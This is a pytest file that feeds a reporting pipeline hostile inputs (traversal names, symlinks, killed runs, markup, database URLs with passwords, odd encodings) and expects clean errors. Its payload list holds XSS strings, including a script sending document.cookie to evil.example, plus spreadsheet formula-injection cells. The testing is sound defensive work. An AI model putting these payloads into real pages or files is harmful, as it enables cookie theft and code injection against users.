"""Hostile cases: names, paths, params, concurrent and killed runs, markup in data, secrets in URLs,
odd encodings and number formats, file permissions. Each case is something a careless or malicious
input could do to the machine, the reports or their readers; each must end in a clear message or a
harmless result, never a traceback, a leak or a write outside the run folder.

Runs use tiny stand-in notebooks (fast); the full notebooks are exercised in test_e2e_hostile.py and
test_e2e_odd_quarters.py.
"""

from __future__ import annotations

import json
import os
import signal
import stat
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest
import yaml
from standin import SETUP
from standin import make_nb as _make_nb

from coaching_roi import config, pipeline, runlock, safety
from coaching_roi.errors import WorkbookError


def make_nb(path: Path, body: str) -> None:
    _make_nb(path, SETUP + body, markdown="# stand-in")


@pytest.fixture
def project(tmp_path):
    """Stand-in notebooks, a data folder, an outputs root and a params file for run 't'."""
    data = tmp_path / "data"
    data.mkdir()
    nbdir = tmp_path / "notebooks"
    nbdir.mkdir()
    make_nb(nbdir / "01_first.ipynb", """
import os, time
time.sleep(float(os.environ.get("STANDIN_SLEEP_01", "0")))
findings.write_part(cfg.run_dir, "01_first", quarter=cfg.quarter, status="ok")
""")
    make_nb(nbdir / "02_second.ipynb", """
import os, time
(cfg.artifacts_dir / "second.txt").write_text("02 was here")
time.sleep(float(os.environ.get("STANDIN_SLEEP_02", "0")))
findings.write_part(cfg.run_dir, "02_second", quarter=cfg.quarter, status="ok")
""")
    params = tmp_path / "t.yaml"
    params.write_text(yaml.safe_dump({"quarter": "2026Q3", "name": "t", "data_dir": str(data)}))
    root = tmp_path / "outputs"
    return tmp_path, nbdir, params, root


def _run(project, **kw):
    _, nbdir, params, root = project
    return pipeline.run(params, outputs_root=root, notebook_dir=nbdir, progress=lambda s: None, **kw)


RUNNER = textwrap.dedent("""
    import sys
    from pathlib import Path
    from coaching_roi import pipeline
    from coaching_roi.errors import WorkbookError
    try:
        pipeline.run(sys.argv[1], outputs_root=Path(sys.argv[2]), notebook_dir=Path(sys.argv[3]),
                     wait=float(sys.argv[4]), progress=lambda s: print(s, flush=True),
                     force=True)  # execute: the stand-ins' STANDIN_SLEEP_* are no input a re-run could see
    except WorkbookError as exc:
        print(f"error: {exc}", file=sys.stderr)
        sys.exit(2)
    except KeyboardInterrupt as exc:
        print(f"interrupted ({exc})", file=sys.stderr)
        sys.exit(130)
""")


def _spawn(project, *, wait: float = 0, env: dict | None = None) -> subprocess.Popen:
    _, nbdir, params, root = project
    return subprocess.Popen(
        [sys.executable, "-c", RUNNER, str(params), str(root), str(nbdir), str(wait)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env={**os.environ, **(env or {})},
        # As from a terminal: pytest-xdist workers ignore SIGINT, and a child would inherit that.
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )


def _wait_for(predicate, timeout: float = 60.0) -> None:
    t0 = time.monotonic()
    while not predicate():
        if time.monotonic() - t0 > timeout:
            raise AssertionError("timed out waiting")
        time.sleep(0.1)


# ==================================================================================== 1. names
BAD_NAMES = ["../something", "..", ".", "", "a/b", "/etc", "-rf", ".hidden", "x" * 65, "na me", "name\n",
             "C:evil", "ünï", "a\\b", "_scratch"]


@pytest.mark.parametrize("bad", BAD_NAMES)
def test_bad_run_name_is_rejected_by_validate_and_run(tmp_path, bad):
    (tmp_path / "data").mkdir()
    p = tmp_path / "q.yaml"
    p.write_text(yaml.safe_dump({"quarter": "2026Q3", "name": bad, "data_dir": str(tmp_path / "data")}))
    with pytest.raises(WorkbookError) as err:
        config.load(p)
    assert "name:" in str(err.value) and "run name" in str(err.value)
    with pytest.raises(WorkbookError):
        pipeline.run(p, outputs_root=tmp_path / "outputs", progress=lambda s: None)
    assert not (tmp_path / "outputs").exists() or not any((tmp_path / "outputs").iterdir())


@pytest.mark.parametrize("good", ["demo", "2026Q3", "team-east_2026.q3", "A" * 64])
def test_good_run_names_pass(good):
    assert safety.check_run_name(good) == good


def test_cli_rejects_bad_name_in_one_line(tmp_path):
    (tmp_path / "data").mkdir()
    p = tmp_path / "q.yaml"
    p.write_text(yaml.safe_dump({"quarter": "2026Q3", "name": "../../etc", "data_dir": str(tmp_path / "data")}))
    for cmd in ("validate", "run"):
        res = subprocess.run([sys.executable, "-m", "coaching_roi.cli", cmd, str(p)], capture_output=True, text=True)
        assert res.returncode == 2, res.stderr
        assert "Traceback" not in res.stderr
        assert "name: the run name '../../etc' is not allowed" in res.stderr


def test_file_stem_that_is_not_a_name_needs_an_explicit_name(tmp_path):
    (tmp_path / "data").mkdir()
    p = tmp_path / "my quarter.yaml"
    p.write_text(yaml.safe_dump({"quarter": "2026Q3", "data_dir": str(tmp_path / "data")}))
    with pytest.raises(WorkbookError, match=r"name: not set, and the file name 'my quarter'"):
        config.load(p)


# ===================================================================================== 1. --out
def test_out_outside_outputs_is_refused(project, tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "precious.txt").write_text("keep me")
    with pytest.raises(WorkbookError, match="writes only inside"):
        _run(project, out_dir=victim)
    assert (victim / "precious.txt").read_text() == "keep me"
    assert sorted(p.name for p in victim.iterdir()) == ["precious.txt"]
    assert not list(tmp_path.glob(".victim*"))


def test_out_dotdot_escape_is_refused(project):
    _, _, _, root = project
    with pytest.raises(WorkbookError, match="writes only inside"):
        _run(project, out_dir=root / ".." / "escaped")
    assert not (root.parent / "escaped").exists()


def test_out_that_is_the_outputs_root_is_refused(project):
    _, _, _, root = project
    root.mkdir()
    (root / "other_run").mkdir()
    with pytest.raises(WorkbookError):
        _run(project, out_dir=root)
    assert (root / "other_run").is_dir()


def test_out_symlink_is_never_followed(project, tmp_path):
    _, _, _, root = project
    root.mkdir()
    target = tmp_path / "elsewhere"
    target.mkdir()
    (target / "precious.txt").write_text("keep me")
    (root / "t").symlink_to(target)
    with pytest.raises(WorkbookError, match="symbolic link"):
        _run(project)
    assert (target / "precious.txt").read_text() == "keep me"
    assert (root / "t").is_symlink()


def test_existing_folder_not_made_by_the_workbook_is_left_alone(project):
    _, _, _, root = project
    mine = root / "t"
    mine.mkdir(parents=True)
    (mine / "notes.txt").write_text("my own folder")
    with pytest.raises(WorkbookError, match="not made by the workbook"):
        _run(project)
    assert (mine / "notes.txt").read_text() == "my own folder"


def test_symlink_inside_run_folder_is_refused_for_partial_rerun(project, tmp_path):
    res = _run(project)
    outside = tmp_path / "outside"
    outside.mkdir()
    (res.run_dir / "data" / "link").symlink_to(outside)
    with pytest.raises(WorkbookError, match="symbolic link"):
        _run(project, only=["02"])
    assert not any(outside.iterdir())


def test_out_into_a_folder_an_earlier_run_made_is_allowed(project, tmp_path):
    _, nbdir, params, _ = project
    elsewhere = tmp_path / "elsewhere_root"
    first = pipeline.run(params, out_dir=elsewhere / "t", outputs_root=elsewhere, notebook_dir=nbdir,
                         progress=lambda s: None)
    again = _run(project, out_dir=first.run_dir)  # outside this run's outputs root, but ours
    assert (again.run_dir / "index.html").exists()


def test_failed_folder_not_ours_is_not_deleted(project):
    _, nbdir, _, root = project
    impostor = root / "t.failed"
    impostor.mkdir(parents=True)
    (impostor / "x.txt").write_text("not yours")
    with pytest.raises(WorkbookError, match="not made by the workbook"):
        _run(project)
    assert (impostor / "x.txt").exists()


# ================================================================================ 1. params file
@pytest.mark.parametrize("case, needle", [
    ("folder", "is a folder, not a file"),
    ("missing", "Params file not found"),
    ("empty", "is empty"),
    ("comments_only", "is empty"),
    ("not_yaml", "is not valid YAML (line"),
    ("binary", "is not UTF-8 text"),
    ("a_list", "must hold a mapping of keys"),
    ("unreadable", "cannot be read"),
])
def test_params_file_problems_are_one_sentence(tmp_path, case, needle):
    p = tmp_path / "q.yaml"
    if case == "folder":
        p.mkdir()
    elif case == "empty":
        p.write_text("")
    elif case == "comments_only":
        p.write_text("# nothing here\n\n")
    elif case == "not_yaml":
        p.write_text("quarter: [2026Q3\ndata_dir: x\n")
    elif case == "binary":
        p.write_bytes(b"\x89PNG\r\n\x1a\n\x00\xff")
    elif case == "a_list":
        p.write_text("- quarter\n- data_dir\n")
    elif case == "unreadable":
        p.write_text("quarter: 2026Q3\n")
        p.chmod(0)
        if os.access(p, os.R_OK):
            pytest.skip("running as root: a mode-0 file is still readable")
    res = subprocess.run([sys.executable, "-m", "coaching_roi.cli", "validate", str(p)], capture_output=True, text=True)
    assert res.returncode == 2
    assert "Traceback" not in res.stderr
    lines = [ln for ln in res.stderr.splitlines() if ln.strip()]
    assert len(lines) == 1 and needle in lines[0], res.stderr


def test_params_errors_are_all_listed_at_once(tmp_path):
    (tmp_path / "data").mkdir()
    p = tmp_path / "q.yaml"
    p.write_text(yaml.safe_dump({
        "quarter": "2026Q5", "name": "../x", "data_dir": str(tmp_path / "nope"), "colour": "blue",
        "sources": {"opportunities": {"preset": "sap"}},
        "overrides": {"economcs": {}, "economics": {"isolation_factor": 1.5, "program_cost": 3},
                      "analysis": {"n_bootstrap": 5, "deal_cycle_behaviors": ["nope"]}},
    }))
    with pytest.raises(WorkbookError) as err:
        config.load(p)
    msg = str(err.value)
    expected = [
        "colour: unknown key",
        "quarter: quarter must look like 2026Q3, got '2026Q5'",
        "name: the run name '../x' is not allowed",
        "sources.opportunities.preset: 'sap'",
        "overrides.economcs: unknown section",
        "data_dir: folder not found",
        "overrides.analysis.n_bootstrap: 5 — input should be greater than or equal to 100",
        "overrides.economics.isolation_factor: 1.5 — input should be less than or equal to 1",
        "overrides.economics.program_cost: unknown key (check its spelling against params/defaults.yaml; "
        "allowed here: program_cost_usd",
        "overrides.analysis.deal_cycle_behaviors: 'nope' is not a rubric behavior",
    ]
    for needle in expected:
        assert needle in msg, (needle, msg)
    assert f"({len(expected)} problems)" in msg


# ================================================================================= 2. locking
def test_second_run_of_the_same_name_fails_clearly_while_the_first_finishes(project):
    _, _, _, root = project
    first = _spawn(project, env={"STANDIN_SLEEP_01": "6"})
    try:
        _wait_for(lambda: list(root.glob(".t.partial-*")))
        second = _spawn(project)
        out, err = second.communicate(timeout=60)
        assert second.returncode == 2, err
        assert "Traceback" not in err
        assert "Another run named 't' is in progress (pid" in err
        assert "--wait" in err
    finally:
        out1, err1 = first.communicate(timeout=120)
    assert first.returncode == 0, err1
    assert (root / "t" / "index.html").exists() and (root / "t" / "02_second.html").exists()
    assert not list(root.glob(".t.partial*"))


def test_second_run_with_wait_queues_behind_the_first(project):
    _, _, _, root = project
    first = _spawn(project, env={"STANDIN_SLEEP_01": "3"})
    try:
        _wait_for(lambda: list(root.glob(".t.partial-*")))
        second = _spawn(project, wait=120)
        out2, err2 = second.communicate(timeout=180)
    finally:
        first.communicate(timeout=120)
    assert first.returncode == 0 and second.returncode == 0, err2
    assert "Waiting for the other run named 't'" in out2
    manifest = json.loads((root / "t" / "manifest.json").read_text())
    assert manifest["status"] == "ok" and [n["status"] for n in manifest["notebooks"]] == ["ok", "ok"]


def test_lock_is_per_name(project, tmp_path):
    _, nbdir, params, root = project
    other = tmp_path / "u.yaml"
    other.write_text(params.read_text().replace("name: t", "name: u"))
    with runlock.RunLock(root / "t", progress=lambda s: None):
        res = pipeline.run(other, outputs_root=root, notebook_dir=nbdir, progress=lambda s: None)
    assert res.run_dir == root / "u"


def test_a_run_leaves_no_kernel_client_pinging_its_ended_kernels(project):
    """Each kernel client runs a heartbeat thread that pings its kernel every second. One left running after
    its kernel ended pings a port a later kernel may bind as its shell port: that kernel then logs every ping
    as a malformed message, with a traceback, into the person's terminal (seen once in CI)."""
    from jupyter_client.channels import HBChannel

    def pinging() -> set[threading.Thread]:
        return {t for t in threading.enumerate() if isinstance(t, HBChannel) and t.is_alive()}

    before = pinging()
    _run(project, force=True)
    assert pinging() - before == set()


@pytest.mark.skipif(os.name == "nt", reason="Windows kernels use TCP ports: no Unix sockets there")
def test_a_run_kernels_listen_where_no_other_process_can_take_the_place_first(project, monkeypatch, capfd):
    """A TCP port jupyter_client picks for a kernel stays free for a second or so until the kernel binds it;
    any process may take it in between, and the kernel then prints "Address already in use" with a traceback
    (seen once in CI). Here every port it would pick is taken already: the run's kernels must not use them."""
    import socket

    from jupyter_client import connect

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        monkeypatch.setattr(connect.LocalPortCache, "find_available_port", lambda self, ip: port)
        results = _run(project, force=True)
    assert [r.status for r in results.notebooks] == ["ok", "ok"]
    assert "Traceback" not in capfd.readouterr().err


@pytest.fixture
def short_tmp():
    """A new folder in the system's temporary folder: pytest's own are too deep for a Unix socket's path."""
    import shutil
    import tempfile

    folder = Path(tempfile.mkdtemp(prefix="t-"))
    yield folder
    shutil.rmtree(folder)


def test_the_kernel_socket_folder_is_private_and_only_its_sockets_are_removed(monkeypatch, short_tmp):
    import socket

    from coaching_roi import kernels

    monkeypatch.setattr(kernels, "_SOCKET_DIR", {})
    monkeypatch.setattr(kernels.tempfile, "tempdir", str(short_tmp))
    prefix = kernels.socket_prefix()
    if prefix is None:
        pytest.skip("no Unix sockets here (Windows, or a temporary folder too deep for one)")
    folder = Path(prefix).parent
    assert folder.parent == short_tmp and stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert kernels.socket_prefix() != prefix and Path(kernels.socket_prefix()).parent == folder
    with socket.socket(socket.AF_UNIX) as left:  # a killed kernel's socket
        left.bind(prefix + "-1")
    kernels.remove_socket_dir()
    assert not folder.exists()

    prefix = kernels.socket_prefix()
    folder = Path(prefix).parent
    (folder / "not-a-socket").write_text("someone else's")
    kernels.remove_socket_dir()
    assert (folder / "not-a-socket").read_text() == "someone else's"  # not ours to delete: folder kept


def test_the_command_removes_its_kernel_socket_folder_as_it_leaves(short_tmp):
    """``coaching-roi`` leaves with ``os._exit`` (no exit handlers): it removes the folder itself."""
    script = textwrap.dedent("""
        import socket
        from coaching_roi import cli, kernels
        prefix = kernels.socket_prefix()
        if prefix is not None:
            socket.socket(socket.AF_UNIX).bind(prefix + "-1")  # as a killed kernel leaves it
        cli.main = lambda argv=None: 0
        cli.entry()
    """)
    res = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                         env={**os.environ, "TMPDIR": str(short_tmp)})
    assert res.returncode == 0, res.stderr
    assert list(short_tmp.iterdir()) == []


# ============================================================================== 2. killed runs
@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM, signal.SIGKILL], ids=["SIGINT", "SIGTERM", "SIGKILL"])
def test_killed_run_leaves_previous_outputs_and_next_run_cleans_up(project, sig, short_tmp):
    _, _, _, root = project
    _run(project)
    before = {p.name: p.read_bytes() for p in (root / "t").iterdir() if p.is_file()}
    proc = _spawn(project, env={"STANDIN_SLEEP_02": "60", "TMPDIR": str(short_tmp)})
    _wait_for(lambda: any((p / "data" / "second.txt").exists() for p in root.glob(".t.partial-*")))
    proc.send_signal(sig)
    try:
        out, err = proc.communicate(timeout=90)
    except subprocess.TimeoutExpired:
        proc.kill()
        out, err = proc.communicate()
        raise AssertionError(f"the run did not stop after {sig!r}:\n{out}\n{err}") from None
    assert "Traceback" not in err
    after = {p.name: p.read_bytes() for p in (root / "t").iterdir() if p.is_file()}
    assert after == before  # the previous outputs, byte for byte
    if sig == signal.SIGKILL:
        assert list(root.glob(".t.partial-*"))  # left behind: the next run must clean it
    else:
        assert proc.returncode == 130
        assert list(short_tmp.iterdir()) == []  # its kernels' socket folder too (a killed run leaves it)
        time.sleep(1.0)  # the run ended its kernels: nothing comes back to write into the staging folder
        assert not list(root.glob(".t.partial*"))
    if sig == signal.SIGKILL:  # the next run cleans up what the killed one could not
        lines: list[str] = []
        _, nbdir, params, _ = project
        pipeline.run(params, outputs_root=root, notebook_dir=nbdir, progress=lines.append)
        assert not list(root.glob(".t.partial*"))
        assert any("left behind by an earlier run" in ln for ln in lines)


def test_swap_interrupted_between_renames_is_repaired(tmp_path):
    root = tmp_path / "outputs"
    folders = runlock.RunFolders(root / "t", progress=lambda s: None)
    folders.previous.mkdir(parents=True)
    safety.write_marker(folders.previous, "t")
    (folders.previous / "index.html").write_text("last complete run")
    folders.check(copy_final=False)
    folders.recover()
    assert (root / "t" / "index.html").read_text() == "last complete run"
    assert not folders.previous.exists()


def test_swap_is_atomic_exchange_where_the_os_offers_it(tmp_path):
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    (a / "f").write_text("A")
    (b / "f").write_text("B")
    if not runlock._exchange(a, b):
        pytest.skip("renameat2(RENAME_EXCHANGE) not available here: the two-rename fallback is used")
    assert (a / "f").read_text() == "B" and (b / "f").read_text() == "A"


# ========================================================================= 4. markup in data
from coaching_roi import exports, textsafe  # noqa: E402

PAYLOADS = [
    "[click me](javascript:alert(1))",
    "![tracker](http://evil.example/pixel.png)",
    '<img src="http://evil.example/x.png" onerror="alert(1)">',
    "<script>fetch('http://evil.example/steal?c='+document.cookie)</script>",
    '<a href="javascript:alert(1)">Jane</a>',
    "[ref][1]\n\n[1]: http://evil.example/ref",
    "<svg onload=alert(1)><use href='http://evil.example/s.svg#x'/></svg>",
    "<style>@import url(http://evil.example/x.css);</style>",
    "<iframe src=//evil.example></iframe>",
    "$\\frac{1}{0}$ and $5 vs $6",
    "Bell\x07 NUL\x00 ESC\x1b[31m red",
    "=HYPERLINK(\"http://evil.example\",\"Jane\")",
    "<https://evil.example/autolink>",
]


def html_tags(text: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """Every real tag (name, attributes) in an HTML fragment: escaped text holds none."""
    from html.parser import HTMLParser

    found: list = []

    class P(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, attrs))

    P().feed(text)
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_say_shows_data_as_text_never_markdown(payload, monkeypatch):
    from coaching_roi import nbsupport

    shown = []
    monkeypatch.setattr("IPython.display.display", lambda obj, raw=False: shown.append(obj))
    nbsupport.say(f"Rep {payload} moved")
    (out,) = shown
    assert set(out) == {"text/html", "text/plain"}  # no text/markdown: nothing is rendered as Markdown
    html_out = out["text/html"]
    tags = html_tags(html_out)
    assert {t for t, _ in tags} <= {"p", "code", "br"}, html_out
    assert all(name == "style" for _, attrs in tags for name, _ in attrs), html_out
    assert "\x00" not in html_out and "\x07" not in html_out
    assert "javascript:alert(1)" in textsafe.plain(out["text/plain"]) or "javascript" not in payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_tables_escape_cells_and_headers(payload):
    import pandas as pd

    from coaching_roi import nbsupport

    df = pd.DataFrame({payload: [payload], "n": [1]})
    html_out = nbsupport._styled(df, caption=payload, precision=2, all_left=False).to_html()
    assert "<script" not in html_out and "<img" not in html_out and "<a " not in html_out
    assert "<iframe" not in html_out and "<svg" not in html_out and "<style>@import" not in html_out


def test_pptx_and_plot_labels_take_any_text(tmp_path):
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    from pptx import Presentation

    from coaching_roi import deck
    from coaching_roi.plots import set_style

    text = " | ".join(PAYLOADS)
    slide = deck.Slide(key="x", title=text, lead=text, bullets=[text], table_columns=["a"], table_rows=[[text]],
                       notes=text)
    d = deck.Deck(title=text, company="Co", quarter="2026Q3", headline=text, slides=[slide])
    deck.render_pptx(d, tmp_path / "d.pptx")
    got = Presentation(str(tmp_path / "d.pptx")).slides[0].shapes.title.text
    assert "javascript:alert(1)" in got and "\x00" not in got  # shown as text, control characters gone
    set_style()
    fig, ax = plt.subplots()
    ax.set_title(textsafe.plot_text(text))
    ax.set_yticks([0, 1], labels=["$1.2M … $3K", textsafe.plot_text(PAYLOADS[9])])
    fig.canvas.draw()  # mathtext would fail on unbalanced or odd '$' text
    plt.close(fig)
    assert "$" in ax.get_title(loc="left")


@pytest.mark.parametrize("cell", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1", "\uff20SUM(A1)"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(cell):
    import pandas as pd

    out = exports.neutralise_formulas(pd.DataFrame({"rep": [cell], "amount": [-5.0]}))
    assert out.loc[0, "rep"] == "'" + cell
    assert out.loc[0, "amount"] == -5.0


@pytest.mark.parametrize("raw", ["../../etc/passwd", "Jane <script>", "con", "", "名前", "a" * 300])
def test_file_names_from_values_are_slugs(raw):
    name = textsafe.filename(raw)
    assert __import__("re").fullmatch(r"[A-Za-z0-9_-]{1,80}", name), name
    assert textsafe.filename(raw) == name and textsafe.filename(raw + "x") != name


# =========================================================================== 5. secrets
from coaching_roi import intake, redact  # noqa: E402
from coaching_roi.config import Source  # noqa: E402

SECRET_URLS = {
    "unescaped_at": ("postgresql+psycopg://analyst:Xq7-P@ss-W0rdZ@127.0.0.1:1/crm", "Xq7-P@ss-W0rdZ"),
    "colon_and_slash": ("postgresql+psycopg://analyst:Xq7:P4ss/W0rdZ@127.0.0.1:1/crm", "Xq7:P4ss/W0rdZ"),
    "percent_encoded": ("postgresql+psycopg://analyst:Xq7%40P4ssW0rdZ@127.0.0.1:1/crm", "Xq7%40P4ssW0rdZ"),
    "missing_driver": ("postgresql+nodriver://analyst:Xq7P4ssW0rdZ@127.0.0.1:1/crm", "Xq7P4ssW0rdZ"),
    "uninstalled_driver": ("mysql+pymysql://analyst:Xq7P4ssW0rdZ@127.0.0.1:1/crm", "Xq7P4ssW0rdZ"),
    "bad_port": ("postgresql+psycopg://analyst:Xq7P4ssW0rdZ@127.0.0.1:notaport/crm", "Xq7P4ssW0rdZ"),
    "no_scheme": ("analyst:Xq7P4ssW0rdZ@127.0.0.1/crm", "Xq7P4ssW0rdZ"),
    "password_in_query": ("postgresql+psycopg://127.0.0.1:1/crm?user=analyst&password=Xq7P4ssW0rdZ", "Xq7P4ssW0rdZ"),
    "space_hash_question": ("postgresql+psycopg://analyst:Xq7 P4ss#W0rd?Z@127.0.0.1:1/crm", "Xq7 P4ss#W0rd?Z"),
    "unknown_host": ("postgresql+psycopg://analyst:Xq7P4ssW0rdZ@no-such-host.invalid/crm", "Xq7P4ssW0rdZ"),
}


def leaked_pieces(text: str, password: str) -> list[str]:
    """Pieces (3+ characters) of ``password`` — raw or percent-decoded — found in ``text``."""
    import re
    from urllib.parse import unquote

    pieces = {p for form in (password, unquote(password)) for p in re.split(r"[@:/?#%\s]+", form) if len(p) >= 3}
    pieces |= {password, unquote(password)}
    return sorted(p for p in pieces if p in text)


@pytest.mark.parametrize("case", list(SECRET_URLS))
def test_sql_errors_never_show_the_password(case, monkeypatch):
    url, password = SECRET_URLS[case]
    monkeypatch.setenv("CRM_URL", url)
    with pytest.raises(WorkbookError) as err:
        intake.sql._read_sql(Source(format="sql", query="select 1", url_env="CRM_URL"), "opportunities")
    msg = str(err.value)
    assert leaked_pieces(msg, password) == [], msg
    assert "$CRM_URL" in msg and redact.MASK in msg  # says which variable, shows the URL masked


@pytest.mark.parametrize("case", list(SECRET_URLS))
def test_masked_url_keeps_what_helps_and_hides_the_password(case):
    url, password = SECRET_URLS[case]
    shown = redact.mask_url(url)
    assert leaked_pieces(shown, password) == []
    assert "127.0.0.1" in shown or "no-such-host" in shown


# ======================================================================= 6. permissions
@pytest.mark.parametrize("umask", [0o022, 0o027])
def test_atomic_writes_respect_the_umask(tmp_path, umask):
    import pandas as pd

    from coaching_roi import findings

    old = os.umask(umask)
    try:
        findings.write_part(tmp_path / "run", "01_x", quarter="2026Q3", status="ok")
        exports.safe_csv(pd.DataFrame({"a": [1]}), tmp_path / "run" / "plan.csv")
        safety.atomic_write_text(tmp_path / "run" / "x.txt", "x")
    finally:
        os.umask(old)
    for p in [tmp_path / "run", *(tmp_path / "run").rglob("*")]:
        want = (0o777 if p.is_dir() else 0o666) & ~umask
        assert stat.S_IMODE(p.stat().st_mode) == want, (p, oct(p.stat().st_mode))


def test_whole_run_respects_the_umask(project):
    _, nbdir, params, root = project
    make_nb(nbdir / "02_second.ipynb", """
import pandas as pd
from coaching_roi import exports
exports.safe_csv(pd.DataFrame({"a": ["=1"]}), cfg.run_dir / "coaching_plan.csv")
pd.DataFrame({"a": [1]}).to_parquet(cfg.artifact("02_x"))
findings.write_part(cfg.run_dir, "02_second", quarter=cfg.quarter, status="ok")
""")
    res = subprocess.run([sys.executable, "-c", RUNNER, str(params), str(root), str(nbdir), "0"],
                         capture_output=True, text=True, preexec_fn=lambda: os.umask(0o022))
    assert res.returncode == 0, res.stderr
    checked = 0
    for p in [root, *root.rglob("*")]:
        want = 0o755 if p.is_dir() else 0o644
        assert stat.S_IMODE(p.stat().st_mode) == want, (p, oct(p.stat().st_mode))
        checked += 1
    assert (root / "t" / "findings.json").exists() and (root / "t" / "coaching_plan.csv").exists()
    assert checked > 15


# ===================================================================== 8. real-world inputs
REPS = [["rep_id", "rep_name", "role"], ["AE1", "Zoë Ñúñez-Ørsted", "AE"], ["AE2", "François Dubé", "AE"]]


def _intake_dir(tmp_path, *, sources=None):
    from coaching_roi import intake as intake_mod

    cfg = config.build(quarter="2026Q3", name="t", data_dir=str(tmp_path / "data"), sources=sources or {},
                       run_dir=str(tmp_path / "run"))
    return intake_mod.run_intake(cfg, write=False)


def _write_table(tmp_path, name, rows, *, encoding="utf-8", sep=",", newline="\n", bom=b""):
    d = tmp_path / "data"
    d.mkdir(exist_ok=True)
    text = newline.join(sep.join(r) for r in rows) + newline
    (d / name).write_bytes(bom + text.encode(encoding))


@pytest.mark.parametrize("encoding, bom, sep, newline", [
    ("utf-8", b"", ",", "\n"),
    ("utf-8", b"\xef\xbb\xbf", ",", "\r\n"),          # Excel "CSV UTF-8"
    ("utf-16-le", b"\xff\xfe", "\t", "\r\n"),         # Excel "Unicode text"
    ("utf-16-be", b"\xfe\xff", "\t", "\r\n"),
    ("utf-32-le", b"\xff\xfe\x00\x00", ",", "\n"),
    ("cp1252", b"", ";", "\r\n"),                     # Excel "CSV" on a Western Windows
    ("latin-1", b"", ",", "\n"),
], ids=["utf8", "utf8-bom", "utf16le-bom", "utf16be-bom", "utf32-bom", "cp1252", "latin1"])
def test_text_encodings_people_export_are_read(tmp_path, encoding, bom, sep, newline):
    _write_table(tmp_path, "reps.csv", REPS, encoding=encoding, sep=sep, newline=newline, bom=bom)
    res = _intake_dir(tmp_path)
    assert res.tables["reps"]["rep_name"].tolist() == ["Zoë Ñúñez-Ørsted", "François Dubé"]
    assert res.tables["reps"].columns[0] == "rep_id"  # no BOM glued to the first header


def test_undecodable_file_names_file_offset_and_fix(tmp_path):
    d = tmp_path / "data"
    d.mkdir()
    (d / "reps.csv").write_bytes(b"rep_id,rep_name,role\nAE1,Bad \x81\x8d name,AE\n")
    with pytest.raises(WorkbookError) as err:
        _intake_dir(tmp_path)
    msg = str(err.value)
    assert msg.startswith("reps.csv: not readable as UTF-8 or Windows-1252 (byte 0x81 at byte offset 29, line 2)")
    assert "sources.reps.encoding" in msg


def test_binary_file_with_a_csv_name_is_named_as_such(tmp_path):
    d = tmp_path / "data"
    d.mkdir()
    (d / "reps.csv").write_bytes(b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 40)
    with pytest.raises(WorkbookError, match=r"reps\.csv: this is an Excel workbook or another zip file.*format: excel"):
        _intake_dir(tmp_path)


def _opps(tmp_path, amounts, **src):
    rows = [["opportunity_id", "rep_id", "created_date", "close_date", "status", "amount"]]
    rows += [[f"O{i}", "AE1", "2026-07-01", "2026-08-01", "won", a] for i, a in enumerate(amounts)]
    _write_table(tmp_path, "reps.csv", REPS)
    _write_table(tmp_path, "opportunities.csv", rows, sep=";")
    res = _intake_dir(tmp_path, sources={"opportunities": src} if src else None)
    return res.tables["opportunities"]["amount"].tolist(), res


@pytest.mark.parametrize("amounts, expected", [
    (["1.234,56", "12,5", "300"], [1234.56, 12.5, 300.0]),                   # European export
    (["1,234.56", "12.5", "300"], [1234.56, 12.5, 300.0]),                   # US export
    (["€ 1.234,56", "1.234,56 €", "EUR 99,90"], [1234.56, 1234.56, 99.9]),    # currency symbol / code
    (["$12,500.00", "USD 1,200", "300 USD"], [12500.0, 1200.0, 300.0]),
    (["1\u202f234,56", "2\u00a0000,5"], [1234.56, 2000.5]),                   # French thin/no-break spaces
    (["1'234.50", "CHF 2'000.00"], [1234.5, 2000.0]),                        # Swiss apostrophes
    (["1.234.567", "12"], [1234567.0, 12.0]),                                # dots only: thousands
])
def test_amount_formats_are_read(tmp_path, amounts, expected):
    got, _ = _opps(tmp_path, amounts)
    assert got == pytest.approx(expected)


def test_decimal_comma_set_in_params_decides_ambiguous_values(tmp_path):
    got, _ = _opps(tmp_path, ["1,500", "2,250"], decimal=",")
    assert got == pytest.approx([1.5, 2.25])
    got, _ = _opps(tmp_path, ["1,500", "2,250"])  # no setting: the ambiguous values keep the '.' reading
    assert got == pytest.approx([1500.0, 2250.0])


def test_dates_in_the_formats_a_mapping_declares(tmp_path):
    rows = [["opportunity_id", "rep_id", "created_date", "close_date", "status", "amount"],
            ["O1", "AE1", "01.07.2026", "2026-08-01", "won", "5"],
            ["O2", "AE1", "02/07/2026", "15.08.2026", "lost", "6"]]
    _write_table(tmp_path, "reps.csv", REPS)
    _write_table(tmp_path, "opportunities.csv", rows)
    res = _intake_dir(tmp_path, sources={"opportunities": {"mapping": {"date_format": ["%d.%m.%Y", "%d/%m/%Y", "%Y-%m-%d"]}}})
    opp = res.tables["opportunities"]
    assert [d.strftime("%Y-%m-%d") for d in opp["created_date"]] == ["2026-07-01", "2026-07-02"]
    assert [d.strftime("%Y-%m-%d") for d in opp["close_date"]] == ["2026-08-01", "2026-08-15"]


# ============================================================================= 3. hand runs
def test_two_hand_runs_of_one_notebook_never_share_a_scratch_folder(tmp_path):
    from coaching_roi import handrun

    folder, seeded = handrun.prepare("demo", "01_data_intake", root=tmp_path)
    assert folder == tmp_path / "_scratch" / "demo" / "01_data_intake" and seeded is None
